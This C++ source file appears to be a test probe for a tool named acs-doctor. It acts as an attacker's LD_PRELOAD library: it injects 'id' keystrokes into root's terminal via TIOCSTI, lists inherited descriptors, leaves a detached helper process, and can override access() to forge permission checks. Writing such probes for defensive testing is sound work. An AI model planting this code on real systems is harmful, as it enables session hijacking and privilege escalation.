// Code of the checked user's, as an attacker who owns a login file, a
// preload or a back end writes it: loaded by acs-doctor's checks (as
// LD_PRELOAD, or as the back end under --load), it tries to reach root's
// terminal (and types into it with TIOCSTI where the kernel still allows
// that), lists the descriptors it was given, leaves a helper that detaches
// itself with setsid, and appends one line of what it found to the file
// SPY_REPORT names:
//   role=<argv[1]> tty=<0|1> typed=<0|1> stdin=<fd 0's target> fds=<fd:target,...>
// Built with SPY_LIES_ABOUT_ACCESS it also answers every access() with
// success, to forge the execute test of whatever process loads it.
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <unistd.h>

#include <string>

namespace {

std::string target(const std::string &fd) {
  char path[512];
  ssize_t n = readlink(("/proc/self/fd/" + fd).c_str(), path, sizeof path - 1);
  return n > 0 ? std::string(path, static_cast<std::size_t>(n)) : "?";
}

std::string role() {
  char cmdline[4096];
  int fd = open("/proc/self/cmdline", O_RDONLY | O_CLOEXEC);
  ssize_t n = fd >= 0 ? read(fd, cmdline, sizeof cmdline - 1) : -1;
  if (fd >= 0) close(fd);
  if (n <= 0) return "?";
  cmdline[n] = '\0';
  std::size_t first = strlen(cmdline);
  return first + 1 < static_cast<std::size_t>(n) ? cmdline + first + 1 : "";
}

__attribute__((constructor)) void spy() {
  const char *report = getenv("SPY_REPORT");
  if (report == nullptr) return;
  std::string line = "role=" + role();
  // The controlling terminal, if any, and what typing into it does.
  int tty = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
  bool typed = false;
  for (int fd : {tty, 0, 1, 2})
    for (const char *c = "id\n"; fd >= 0 && *c != '\0'; ++c) typed = ioctl(fd, TIOCSTI, c) == 0 || typed;
  line += std::string(" tty=") + (tty >= 0 ? "1" : "0") + " typed=" + (typed ? "1" : "0");
  if (tty >= 0) close(tty);
  line += " stdin=" + target("0") + " fds=";
  if (DIR *fds = opendir("/proc/self/fd")) {
    while (const struct dirent *e = readdir(fds))
      if (atoi(e->d_name) > 2 && atoi(e->d_name) != dirfd(fds)) line += std::string(e->d_name) + ":" + target(e->d_name) + ",";
    closedir(fds);
  }
  // A helper that leaves the process group and the session it was started
  // in, and waits for later keystrokes. The report is written once it has
  // its name, so that whoever reads the report finds the helper too.
  int named[2];
  bool piped = pipe2(named, O_CLOEXEC) == 0;
  if (fork() == 0) {
    setsid();
    prctl(PR_SET_NAME, "spy-helper");
    if (piped && write(named[1], "", 1) < 0) {
    }
    for (;;) pause();
  }
  char byte;
  if (piped) {
    close(named[1]);
    if (read(named[0], &byte, 1) < 0) {
    }
    close(named[0]);
  }
  int out = open(report, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0666);
  line += "\n";
  if (out >= 0 && write(out, line.data(), line.size()) < 0) {
  }
  if (out >= 0) close(out);
}

}  // namespace

#ifdef SPY_LIES_ABOUT_ACCESS
extern "C" __attribute__((visibility("default"))) int access(const char *, int) { return 0; }
#endif
